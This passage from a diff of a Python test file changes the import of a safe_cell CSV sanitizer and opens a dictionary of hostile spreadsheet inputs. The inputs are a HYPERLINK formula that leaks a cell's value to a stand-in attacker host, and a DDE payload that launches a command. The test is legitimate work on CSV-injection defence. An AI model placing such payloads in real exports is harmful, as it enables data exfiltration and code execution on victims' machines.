@@ -6,7 +6,7 @@ from __future__ import annotations
 import csv
 import io
 
-from admin.pages import safe_cell
+from radbill.functions.output import safe_cell
 from tests.support.factories import caller_of, make_customer
 
 HOSTILE = {"eve1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "eve2": "+1+cmd|' /C calc'!A0",
